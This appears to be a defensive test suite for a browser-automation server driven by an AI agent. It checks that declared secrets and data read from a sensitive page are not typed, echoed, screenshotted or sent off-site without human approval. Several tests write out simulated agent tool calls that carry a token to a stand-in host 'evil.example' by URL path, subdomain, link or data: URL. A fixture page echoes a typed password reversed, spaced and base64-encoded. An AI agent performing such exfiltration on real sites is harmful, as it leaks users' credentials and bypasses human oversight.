// Attacks on where data may go: environment variables typed as "secrets", a declared secret typed on the wrong
// site, data read on a sensitive page sent out through a path, a subdomain or a link, a sensitive iframe read in
// passing, and a typed secret handed back by the page reversed, spaced out, base64-encoded or on screen.
// Assertions are on what the fixture servers received and on what the agent was given.

import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Fixture, html, startFixture } from '../helpers/fixtureServer.ts';
import { refOf, startMcp } from '../helpers/mcpClient.ts';
import { differingRows } from '../helpers/pngRows.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_leakyToken4242';
const secret = 'Pa55-word-7781';

/** A secrets file of these lines, private like a user's would be. */
function secretsFileWith(lines: string): string {
  const file = join(mkdtempSync(join(tmpdir(), 'tabward-secrets-')), 'secrets.env');
  writeFileSync(file, lines, { mode: 0o600 });
  return file;
}

describe('data does not leave without the human', () => {
  let gh: Fixture;
  let evil: Fixture;
  let login: Fixture;
  const evilSaw = (needle: string) =>
    evil.seen.some((request) => `${request.path} ${request.body}`.includes(needle));

  before(async () => {
    gh = await startFixture(
      { '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`) },
      { tls: true },
    );
    evil = await startFixture({
      '/form': (_req, _body, res) =>
        html(res, '<title>Form</title><form action="/collect"><label>Note <input name="n"></label></form>'),
      '/frame': (_req, _body, res) =>
        html(
          res,
          `<title>News</title><p>news</p><iframe src="${gh.url('github.com', '/settings/tokens')}"></iframe>
          <a href="/collect/link">More news</a>`,
        ),
    });
    login = await startFixture({
      '/login': (_req, _body, res) =>
        html(
          res,
          `<title>Sign in</title><label>Password <input id="pw" type="text" name="pw"
          oninput="document.getElementById('echo').textContent = [...this.value].reverse().join('') + ' / ' + [...this.value].join(' ') + ' / ' + btoa(this.value)"></label>
          <p id="echo"></p>`,
        ),
    });
  });
  after(async () => {
    await gh?.close();
    await evil?.close();
    await login?.close();
  });

  test('only declared secrets exist; a bound secret typed on another site asks', async () => {
    const secretsFile = secretsFileWith(
      `LOGIN_PASSWORD@${login.url('login.example', '')}=${secret}\nFREE_NOTE=free-note-value\n`,
    );
    const mcp = await startMcp({
      args: ['--mode', 'isolated', '--secrets', secretsFile],
      env: { OPENAI_API_KEY: 'sk-should-never-be-typed' },
    });
    try {
      await mcp.call('new_page', { url: evil.url('evil.example', '/form') });
      const note = refOf((await mcp.call('take_snapshot')).text, 'Note');
      for (const name of ['OPENAI_API_KEY', 'HOME', 'PATH']) {
        const typed = await mcp.call('fill', { ref: note, secret: name });
        assert.ok(typed.isError && /Unknown secret/.test(typed.text), typed.text);
      }
      const asked = mcp.human.questions.length;
      const wrongSite = await mcp.call('fill', { ref: note, secret: 'LOGIN_PASSWORD' });
      assert.ok(wrongSite.isError && wrongSite.text.startsWith('rejected:'), wrongSite.text);
      assert.match(mcp.human.questions.at(asked) ?? '', /LOGIN_PASSWORD belongs to http:\/\/login\.example/);
      mcp.human.will({ decision: 'approve' });
      const unbound = await mcp.call('fill', { ref: note, secret: 'FREE_NOTE' });
      assert.ok(!unbound.isError, unbound.text);
      assert.match(mcp.human.questions.at(-1) ?? '', /FREE_NOTE has no origin bound/);
      const again = await mcp.call('fill', { ref: note, secret: 'FREE_NOTE' });
      assert.ok(!again.isError, `approved once for this origin: ${again.text} ${mcp.human.questions.at(-1)}`);
      await mcp.call('press_key', { key: 'Enter' });
      assert.ok(!evilSaw('sk-should') && !evilSaw(encodeURIComponent(secret)), 'only the approved note left');

      // A secret typed into evil.example (the human let it) taints the session for good: going to another site asks.
      const before = mcp.human.questions.length;
      mcp.human.will({ decision: 'approve' });
      await mcp.call('new_page', { url: login.url('login.example', '/login') });
      assert.match(mcp.human.questions.at(before) ?? '', /typed a secret\) on evil\.example/);
      const field = refOf((await mcp.call('take_snapshot')).text, 'Password');
      const typed = await mcp.call('fill', { ref: field, secret: 'LOGIN_PASSWORD' });
      assert.ok(!typed.isError, `its own site asks nobody: ${typed.text}`);
      const outputs = [typed.text, (await mcp.call('take_snapshot')).text];
      const script = await mcp.call('evaluate_script', {
        function: '() => btoa(document.getElementById("pw").value)',
      });
      assert.ok(script.isError && script.text.startsWith('rejected:'), script.text);
      assert.match(mcp.human.questions.at(-1) ?? '', /a secret was typed into this page/);
      for (const output of outputs) {
        assert.ok(!output.includes(secret), output);
        assert.ok(!output.includes([...secret].reverse().join('')), `reversed: ${output}`);
        assert.ok(!output.includes([...secret].join(' ')), `spaced: ${output}`);
        assert.ok(!output.includes(Buffer.from(secret).toString('base64')), `base64: ${output}`);
      }
    } finally {
      await mcp.close();
    }
  });

  test('a field a secret was typed into is masked in screenshots', async () => {
    const secretsFile = secretsFileWith(`LOGIN_PASSWORD@${login.url('login.example', '')}=${secret}\n`);
    const mcp = await startMcp({ args: ['--mode', 'isolated', '--secrets', secretsFile] });
    try {
      await mcp.call('new_page', { url: login.url('login.example', '/login') });
      const field = refOf((await mcp.call('take_snapshot')).text, 'Password');
      const shot = async () => {
        const result = await mcp.client.callTool({ name: 'take_screenshot', arguments: {} });
        const image = (result.content as { type: string; data?: string }[]).find(
          (part) => part.type === 'image',
        );
        return Buffer.from(image?.data ?? '', 'base64');
      };
      await mcp.call('fill', { ref: field, value: 'aaaaaaaaaaaaaa' });
      const plain = await shot();
      await mcp.call('fill', { ref: field, value: 'bbbbbbbbbbbbbb' });
      assert.ok(differingRows(plain, await shot()) > 5, 'a plain value shows in the screenshot');
      await mcp.call('fill', { ref: field, secret: 'LOGIN_PASSWORD' });
      // The page holds a typed secret now: a screenshot asks (the page could copy it anywhere on screen).
      const asked = mcp.human.questions.length;
      const refusedShot = await mcp.call('take_screenshot');
      assert.ok(refusedShot.isError && refusedShot.text.startsWith('rejected:'), refusedShot.text);
      assert.match(mcp.human.questions.at(asked) ?? '', /screenshot here could show it back/);
      mcp.human.will({ decision: 'approve' });
      const first = await shot();
      await mcp.call('fill', { ref: field, secret: 'LOGIN_PASSWORD' });
      mcp.human.will({ decision: 'approve' });
      assert.ok(differingRows(first, await shot()) <= 2, 'the secret field is masked alike both times');
    } finally {
      await mcp.close();
    }
  });

  test('searching for a secret, letter by letter, is refused; an echo with any separator is redacted', async () => {
    const secretsFile = secretsFileWith(`LOGIN_PASSWORD@${login.url('login.example', '')}=${secret}\n`);
    const mcp = await startMcp({ args: ['--mode', 'isolated', '--secrets', secretsFile] });
    try {
      await mcp.call('new_page', { url: login.url('login.example', '/login') });
      const field = refOf((await mcp.call('take_snapshot')).text, 'Password');
      await mcp.call('evaluate_script', {
        function: `() => { document.getElementById('pw').oninput = (e) => { document.getElementById('echo').textContent = [...e.target.value].join('~~'); }; }`,
      });
      await mcp.call('fill', { ref: field, secret: 'LOGIN_PASSWORD' });
      for (const probe of ['Pa55', 'Pa55-w', 'pa55word', 'word-77']) {
        const query = await mcp.call('take_snapshot', { query: probe });
        assert.ok(query.isError && query.text.startsWith('not_allowed:'), `${probe}: ${query.text}`);
        const wait = await mcp.call('wait_for', { text: probe, timeoutMs: 500 });
        assert.ok(wait.isError && wait.text.startsWith('not_allowed:'), `${probe}: ${wait.text}`);
      }
      const echoed = (await mcp.call('take_snapshot')).text;
      assert.ok(!echoed.includes([...secret].join('~~')), echoed);
      assert.match(echoed, /«redacted»/);
      assert.ok(
        !(await mcp.call('take_snapshot', { query: 'Sign' })).isError,
        'ordinary searches still work',
      );
    } finally {
      await mcp.close();
    }
  });

  test('after a sensitive read, paths, subdomains, links and frames all ask', async () => {
    const mcp = await startMcp({ args: ['--mode', 'isolated'] });
    try {
      await mcp.call('new_page', { url: evil.url('evil.example', '/frame') });
      // The frame may still be loading as new_page returns on a loaded machine: read until it shows.
      const framed = await waitFor('the iframe read in passing', async () => {
        const read = await mcp.call('take_snapshot');
        return read.text.includes(token) ? read : undefined;
      });
      const asked = mcp.human.questions.length;
      const byPath = await mcp.call('navigate_page', { url: evil.url('evil.example', `/collect/${token}`) });
      assert.ok(byPath.isError, byPath.text);
      assert.match(mcp.human.questions.at(asked) ?? '', /data read on sensitive https:\/\/github\.com/);
      const bySubdomain = await mcp.call('new_page', { url: evil.url(`${token}.evil.example`, '/') });
      assert.ok(bySubdomain.isError, bySubdomain.text);
      const link = await mcp.call('click', { ref: refOf(framed.text, 'More news') });
      assert.ok(link.isError, `a link to another origin asks too: ${link.text}`);
      const scheme = await mcp.call('new_page', { url: `data:text/html,${token}` });
      assert.ok(scheme.isError, scheme.text);
      assert.ok(!evil.seen.some((request) => request.host.startsWith(token) || request.path.includes(token)));
    } finally {
      await mcp.close();
    }
  });
});
